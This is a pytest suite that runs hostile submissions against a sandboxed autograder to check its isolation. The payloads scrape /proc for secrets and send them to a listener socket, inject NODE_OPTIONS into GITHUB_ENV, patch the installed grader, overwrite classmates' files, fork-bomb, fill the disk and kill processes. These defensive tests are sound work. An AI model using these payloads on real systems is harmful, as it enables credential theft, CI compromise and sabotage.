"""Hostile submissions against the grader as instructors install it (non-editable), through the
real `grader check` and `grader grade`, as root and as an unprivileged user.

Each attack is one a real submission could carry; each test asserts that the submission scores
what its layers deserve, that classmates score as when graded alone, that the installed package
and the MNIST cache are unchanged byte for byte, that no secret reaches anywhere the submission
could write or print, that no process survives, and that the grader ends in time with a report.
"""
from __future__ import annotations

import csv
import json
import os
import py_compile
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from tests.attack_support import (can_run_as_user, command, installed_grader, package_folder,
                                  processes_with, tree_digest)
from tests.conftest import EXERCISES, SOLUTIONS, copy_submission
from tests.report_reading import outputs, states

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux's")

USERS = ["root"] + (["user"] if os.geteuid() == 0 and can_run_as_user() else [])
SECRET = "ghp_" + uuid.uuid4().hex


@pytest.fixture(scope="module")
def grader_script(tmp_path_factory) -> Path:
    return installed_grader(tmp_path_factory.mktemp("install"))


@pytest.fixture(scope="module")
def cache(tmp_path_factory) -> Path:
    """A MNIST cache of these tests' own (filled by the first check), world-traversable."""
    folder = tmp_path_factory.mktemp("cache")
    os.chmod(folder, 0o755)
    return folder


@pytest.fixture
def marker() -> str:
    return f"hostile-{uuid.uuid4().hex}"


def run(script: Path, args: list, user: str, cache: Path, env: dict | None = None,
        timeout: float = 240, cwd: Path | None = None) -> subprocess.CompletedProcess:
    environment = {"PATH": os.environ.get("PATH", ""), "GITHUB_TOKEN": SECRET,
                   "AWS_SECRET_ACCESS_KEY": SECRET, "GRADER_CACHE_DIR": str(cache), **(env or {})}
    return subprocess.run(command(script, *args, as_user=user == "user"), capture_output=True,
                          text=True, timeout=timeout, env=environment, cwd=cwd or "/")


def check_json(script, folder: Path, user: str, cache: Path, *extra: str, env=None) -> dict:
    # --no-cache: every attack must run, never be answered by an earlier verdict
    done = run(script, ["check", str(folder), *extra, "--format", "json", "--no-cache"], user, cache, env)
    assert done.returncode in (0, 1), done.stderr
    assert SECRET not in done.stdout + done.stderr
    return json.loads(done.stdout)


def lost_points(results: Path) -> str:
    """Each graded submission's failing checks with what the report said: a rare failure of a
    class test then carries its own evidence."""
    lines = []
    for path in sorted(results.glob("*.json")):
        for test in json.loads(path.read_text(encoding="utf-8"))["tests"]:
            if test.get("status") != "passed":
                lines.append(f"{path.stem}: {test['name']}: {test.get('output', '')}")
    return "\n".join(lines)


def hostile(folder: Path, code: str, wrong_relu: bool = False) -> Path:
    """Put `code` at the top of layers.py, run at import and never raising; optionally make Relu
    wrong, so an honest verdict is a failure."""
    path = folder / "layers.py"
    source = path.read_text(encoding="utf-8")
    if wrong_relu:
        source = source.replace("        self.mask = x <= 0\n        out = x.copy()",
                                "        self.mask = x <= 0\n        return -x")
    body = "".join(f"    {line}\n" for line in code.strip("\n").splitlines())
    path.write_text(f"try:\n{body}except BaseException:\n    pass\n\n" + source, encoding="utf-8")
    return folder


@pytest.mark.parametrize("user", USERS)
def test_the_installed_grader_cannot_be_patched(grader_script, cache, tmp_path, user):
    package = package_folder(grader_script)
    before = tree_digest(package)
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "s"), f"""
import os, glob, py_compile
root = {str(package)!r}
for path in glob.glob(root + '/**/*.py', recursive=True):
    try:
        with open(path, 'a') as fh:
            fh.write('\\nimport builtins; builtins.FORGED = 100\\n')
    except OSError:
        pass
for path in glob.glob(root + '/report/*.py'):
    try:
        os.chmod(path, 0o777)
    except OSError:
        pass
try:
    os.makedirs(root + '/report/__pycache__', exist_ok=True)
    open(root + '/report/__pycache__/json_report.cpython-311.pyc', 'wb').write(b'forged')
except OSError:
    pass
""", wrong_relu=True)
    honest = hostile(copy_submission(SOLUTIONS, tmp_path / "honest"), "pass", wrong_relu=True)
    deserved = check_json(grader_script, honest, user, cache, "MulLayer", "Relu")
    report = check_json(grader_script, folder, user, cache, "MulLayer", "Relu")
    assert states(report) == {"MulLayer": "passed", "Relu": "failed"}
    assert report["score"] == deserved["score"] < deserved["max_score"]
    assert tree_digest(package) == before
    assert "sandbox: landlock" in report["output"]


@pytest.mark.parametrize("user", USERS)
def test_secrets_and_the_network_are_out_of_reach(grader_script, cache, tmp_path, user):
    leak = tmp_path / "leak.txt"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "s"), f"""
import os, ctypes, socket
found = [repr(dict(os.environ))]
for pid in ['self', '1', str(os.getppid())] + [str(p) for p in range(1, 4096)]:
    for part in ('environ', 'cmdline', 'mem'):
        try:
            with open('/proc/%s/%s' % (pid, part), 'rb') as fh:
                found.append(fh.read(100000).decode('latin-1'))
        except OSError:
            pass
libc = ctypes.CDLL(None)
for pid in range(1, 4096):
    libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall('\\n'.join(found).encode())
except OSError:
    pass
print('\\n'.join(found)[:5000])
open({str(leak)!r}, 'w').write('\\n'.join(found))
""")
    report = check_json(grader_script, folder, user, cache, "Relu")
    assert states(report) == {"Relu": "passed"}
    assert SECRET not in json.dumps(report)
    with pytest.raises(socket.timeout):
        listener.accept()
    listener.close()
    assert not leak.exists()


@pytest.mark.parametrize("user", USERS)
def test_no_process_survives(grader_script, cache, tmp_path, marker, user):
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "s"), f"""
import os, sys, time, ctypes
libc = ctypes.CDLL(None)
if os.fork() == 0:
    os.setsid()
    libc.prctl(36, 0, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER off
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', '{marker}-daemon'])
    os._exit(0)
if os.fork() == 0:
    # A pid hopper: a fresh pid every few milliseconds, each parent gone before it can be named.
    code = 'import os, time\\nwhile True:\\n    if os.fork():\\n        os._exit(0)\\n    time.sleep(0.005)'
    os.execv(sys.executable, [sys.executable, '-c', code, '{marker}-hopper'])
time.sleep(600)
""")
    started = time.monotonic()
    report = check_json(grader_script, folder, user, cache, "Relu", "--timeout", "4")
    assert time.monotonic() - started < 60
    assert states(report) == {"Relu": "timeout"}
    time.sleep(0.5)
    assert processes_with(marker) == []


@pytest.mark.parametrize("user", USERS)
def test_github_env_cannot_be_written(grader_script, cache, tmp_path, user):
    github_env = tmp_path / "github_env"
    github_env.write_text("")
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "s"), f"""
import os
for path in (os.environ.get('GITHUB_ENV'), {str(github_env)!r}):
    if path:
        open(path, 'a').write('NODE_OPTIONS=--require /tmp/evil.js\\n')
""")
    report = check_json(grader_script, folder, user, cache, "Relu", env={"GITHUB_ENV": str(github_env)})
    assert states(report) == {"Relu": "passed"}
    assert github_env.read_text() == ""


@pytest.mark.parametrize("user", USERS)
def test_links_to_the_solutions_are_not_followed(grader_script, cache, tmp_path, user):
    folder = tmp_path / "s"
    folder.mkdir()
    for name in ("functions.py", "layers.py", "two_layer_net.py"):
        (folder / name).symlink_to(SOLUTIONS / name)
    report = check_json(grader_script, folder, user, cache)
    assert report["score"] == 0
    assert "passed" not in states(report).values()


@pytest.mark.parametrize("user", USERS)
def test_planted_bytecode_is_never_imported(grader_script, cache, tmp_path, user):
    """Stubs beside the solution's bytecode, compiled to be trusted without checking the source."""
    folder = copy_submission(EXERCISES, tmp_path / "s")
    for name in ("layers.py", "two_layer_net.py"):
        target = folder / "__pycache__" / f"{name[:-3]}.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc"
        target.parent.mkdir(exist_ok=True)
        py_compile.compile(str(SOLUTIONS / name), cfile=str(target), dfile=str(folder / name),
                           invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    report = check_json(grader_script, folder, user, cache)
    assert report["score"] == 0
    assert set(states(report).values()) == {"not_started"}


@pytest.mark.parametrize("user", USERS)
def test_a_forged_huge_reply_is_refused(grader_script, cache, tmp_path, user):
    import resource
    folder = copy_submission(SOLUTIONS, tmp_path / "s")
    path = folder / "layers.py"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "        self.mask = x <= 0\n        out = x.copy()",
        "        import os, sys, struct\n"
        "        os.write(int(sys.argv[5]), struct.pack('>Q', 1 << 30) + b'x' * (1 << 20))\n"
        "        self.mask = x <= 0\n        out = x.copy()"), encoding="utf-8")
    report = check_json(grader_script, folder, user, cache, "Relu", "Sigmoid")
    assert states(report) == {"Relu": "error", "Sigmoid": "passed"}
    assert "oversized" in outputs(report, "Relu")
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 1_500_000  # kB


@pytest.mark.parametrize("user", USERS)
def test_a_class_cannot_be_disturbed_by_one_of_its_members(grader_script, cache, tmp_path, marker, user):
    submissions = tmp_path / "class"
    alice = copy_submission(SOLUTIONS, submissions / "alice")
    bob = copy_submission(SOLUTIONS, submissions / "bob")
    gradebook = tmp_path / "out" / "gradebook.csv"
    planted = submissions / "grader.toml"
    daemon = f"import time\ntime.sleep(3)\nopen({str(gradebook)!r}, 'w').write('mallory,100\\n')"
    hostile(copy_submission(SOLUTIONS, submissions / "mallory"), f"""
import os, signal, sys, time
for victim in ({str(alice)!r}, {str(bob)!r}):
    for name in ('layers.py', 'two_layer_net.py'):
        try:
            open(os.path.join(victim, name), 'w').write('raise SystemExit(1)\\n')
        except OSError:
            pass
try:
    open({str(planted)!r}, 'w').write('[points.MulLayer]\\nforward = 100\\n')
except OSError:
    pass
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, sig)
    except OSError:
        pass
    for pid in range(2, 32768):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, sig)
        except OSError:
            pass
if os.fork() == 0:
    os.setsid()
    code = {daemon!r}
    os.execv(sys.executable, [sys.executable, '-c', code, '{marker}'])
""")
    alone = {}
    for folder in (alice, bob):
        alone[folder.name] = check_json(grader_script, folder, user, cache)["score"]
    digests = {f.name: tree_digest(f) for f in (alice, bob)}
    done = run(grader_script, ["grade", str(submissions), "--output", str(gradebook), "--no-cache"], user, cache,
               cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    time.sleep(4)
    with open(gradebook, newline="", encoding="utf-8") as fh:
        rows = {row["submission"]: row for row in csv.DictReader(fh)}
    assert set(rows) == {"alice", "bob", "mallory"}, rows
    assert [rows[n]["score"] for n in ("alice", "bob", "mallory")] == ["100", "100", "100"], \
        lost_points(gradebook.with_name("gradebook.results"))
    assert float(rows["alice"]["score"]) == alone["alice"] == 100
    assert float(rows["bob"]["score"]) == alone["bob"] == 100
    assert float(rows["mallory"]["score"]) == 100  # her layers are right; the attack got nowhere
    assert {f.name: tree_digest(f) for f in (alice, bob)} == digests
    assert not planted.exists()
    assert processes_with(marker) == []
    assert SECRET not in done.stdout + done.stderr + gradebook.read_text(encoding="utf-8")


@pytest.mark.parametrize("user", USERS)
def test_processes_held_by_one_member_do_not_starve_the_classmates_graded_beside_her(grader_script, cache,
                                                                                     tmp_path, user):
    """Every worker ran as nobody, and the process limit counts a uid's processes wherever they
    are: a submission holding its fill of processes left the workers started beside it (two jobs)
    none to start with, and two classmates scored 0 (seen as root)."""
    submissions = tmp_path / "class"
    hostile(copy_submission(SOLUTIONS, submissions / "a-mallory"), """
import os, time
for _ in range(600):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
""")
    for name in ("b-alice", "c-bob", "d-carol"):
        copy_submission(SOLUTIONS, submissions / name)
    gradebook = tmp_path / "out" / "gradebook.csv"
    done = run(grader_script, ["grade", str(submissions), "--output", str(gradebook), "--no-cache", "--jobs", "2"],
               user, cache, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with open(gradebook, newline="", encoding="utf-8") as fh:
        scores = {row["submission"]: row["score"] for row in csv.DictReader(fh)}
    assert [scores[n] for n in ("b-alice", "c-bob", "d-carol")] == ["100"] * 3, \
        done.stderr + lost_points(gradebook.with_name("gradebook.results"))


@pytest.mark.parametrize("user", USERS)
def test_a_worker_holds_no_more_processes_than_its_limit(grader_script, cache, tmp_path, user):
    """As an unprivileged user, whose workers each have a user namespace of their own, there was
    no limit at all: a submission could hold every process the instructor's account may have.
    (This harness's user is the kernel's uid 0 mapped to 1000, which the limit exempts: there the
    test sees the limit set, not enforced.)"""
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "submission"), """
import os, time
for _ in range(600):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
    held += 1
""")
    enforced = user == "root"
    layers = folder / "layers.py"
    layers.write_text("import resource\nheld = 0\n" + layers.read_text(encoding="utf-8")
                      + "\nif resource.getrlimit(resource.RLIMIT_NPROC) != (256, 256) or "
                      + f"({enforced} and held >= 300):\n    raise ImportError(f'{{held}} processes held')\n",
                      encoding="utf-8")
    report = check_json(grader_script, folder, user, cache, "MulLayer")
    assert float(report["score"]) > 0, report["output"]


@pytest.mark.parametrize("user", USERS)
def test_what_a_worker_writes_is_bounded_and_never_reaches_the_disk(grader_script, cache, tmp_path, user):
    """Each file was bounded (RLIMIT_FSIZE), their number was not: a submission could fill the
    disk that the grader's results and the classmates' checks are written to."""
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "submission"), """
block = b"x" * (16 << 20)
for number in range(128):   # 2 GB, in files of 64 MB
    with open(f"fill-{number}", "wb") as fh:
        for _ in range(4):
            fh.write(block)
            written += len(block)
""")
    layers = folder / "layers.py"
    layers.write_text("written = 0\n" + layers.read_text(encoding="utf-8")
                      + "\nif written > (600 << 20):\n    raise ImportError(f'{written >> 20} MB written')\n",
                      encoding="utf-8")
    report = check_json(grader_script, folder, user, cache, "MulLayer")
    assert float(report["score"]) > 0, report["output"]
    assert "scratch folder in memory" not in report["output"]


@pytest.mark.parametrize("user", USERS)
def test_without_a_mount_namespace_a_worker_filling_its_scratch_folder_is_ended(grader_script, cache, tmp_path,
                                                                                user):
    """Landlock alone (user namespaces refused, as on Ubuntu 24.04): no tmpfs holds the scratch
    folder, so the grader watches it and ends the worker past 512 MB."""
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "submission"), """
block = b"x" * (16 << 20)
for number in range(48):   # 3 GB in 64 MB files, unless the grader ends this first
    with open(f"fill-{number}", "wb") as fh:
        for _ in range(4):
            fh.write(block)
""")
    report = check_json(grader_script, folder, user, cache, "MulLayer",
                        env={"GRADER_SANDBOX_WITHOUT": "namespaces"})
    assert states(report) == {"MulLayer": "error"}
    assert "more than 512 MB into its scratch folder" in json.dumps(report), report["output"]


def test_a_grader_toml_among_the_submissions_is_ignored(grader_script, cache, tmp_path):
    submissions = tmp_path / "class"
    copy_submission(SOLUTIONS, submissions / "alice")
    (submissions / "grader.toml").write_text("[points.MulLayer]\nforward = 100\n", encoding="utf-8")
    gradebook = tmp_path / "gradebook.csv"
    done = run(grader_script, ["grade", str(submissions), "--output", str(gradebook), "--no-cache"], "root", cache,
               cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with open(gradebook, newline="", encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert float(row["max_score"]) == 100


def test_a_folder_name_that_is_not_utf8_is_graded(grader_script, cache, tmp_path):
    submissions = tmp_path / "class"
    submissions.mkdir()
    copy_submission(SOLUTIONS, Path(os.fsdecode(bytes(submissions) + b"/caf\xe9")))
    copy_submission(SOLUTIONS, submissions / "bob")
    gradebook = tmp_path / "gradebook.csv"
    done = run(grader_script, ["grade", str(submissions), "--output", str(gradebook), "--no-cache"], "root", cache,
               cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with open(gradebook, newline="", encoding="utf-8") as fh:
        rows = {row["submission"]: float(row["score"]) for row in csv.DictReader(fh)}
    assert rows == {"caf\\xe9": 100, "bob": 100}


def test_require_refuses_where_the_sandbox_is_incomplete(grader_script, cache, tmp_path, marker):
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "s"), f"open({str(tmp_path / marker)!r}, 'w')")
    done = run(grader_script, ["check", str(folder), "--sandbox", "require"], "root", cache,
               env={"GRADER_SANDBOX_WITHOUT": "namespaces"})
    assert done.returncode == 2
    assert "--sandbox require" in done.stderr and "namespaces" in done.stderr
    assert not (tmp_path / marker).exists()  # not one line of the submission ran


def test_landlock_alone_still_holds_the_files(grader_script, cache, tmp_path):
    """Where namespaces are refused (AppArmor on recent Ubuntu), Landlock is the wall."""
    package = package_folder(grader_script)
    before = tree_digest(package)
    leak = tmp_path / "leak.txt"
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "s"), f"""
import glob
for path in glob.glob({str(package)!r} + '/**/*.py', recursive=True):
    open(path, 'a').write('# patched\\n')
open({str(leak)!r}, 'w').write(open('/proc/1/environ').read())
""")
    report = check_json(grader_script, folder, "root", cache, "Relu",
                        env={"GRADER_SANDBOX_WITHOUT": "namespaces"})
    assert states(report) == {"Relu": "passed"}
    assert "missing: namespaces" in report["output"]
    assert tree_digest(package) == before
    assert not leak.exists()


@pytest.mark.parametrize("user", USERS)
def test_namespaces_alone_still_hold_the_files(grader_script, cache, tmp_path, marker, user):
    """Where Landlock is missing (older kernels, or not in the kernel's LSM list), the fallback is
    a read-only view of every mount, a tmpfs scratch folder and a /proc of the worker's own."""
    package = package_folder(grader_script)
    before = tree_digest(package)
    outside = tmp_path / marker
    folder = hostile(copy_submission(SOLUTIONS, tmp_path / "s"), f"""
import glob, os
for path in glob.glob({str(package)!r} + '/**/*.py', recursive=True):
    try:
        open(path, 'a').write('# patched\\n')
    except OSError:
        pass
for pid in os.listdir('/proc'):
    try:
        print(open('/proc/%s/environ' % pid).read())
    except OSError:
        pass
open({str(outside)!r}, 'w').write('escaped')
""")
    report = check_json(grader_script, folder, user, cache, "Relu", env={"GRADER_SANDBOX_WITHOUT": "landlock"})
    assert states(report) == {"Relu": "passed"}
    assert "read-only view" in report["output"]
    assert report["extra_data"]["sandbox"]["complete"]
    assert tree_digest(package) == before
    assert not outside.exists()
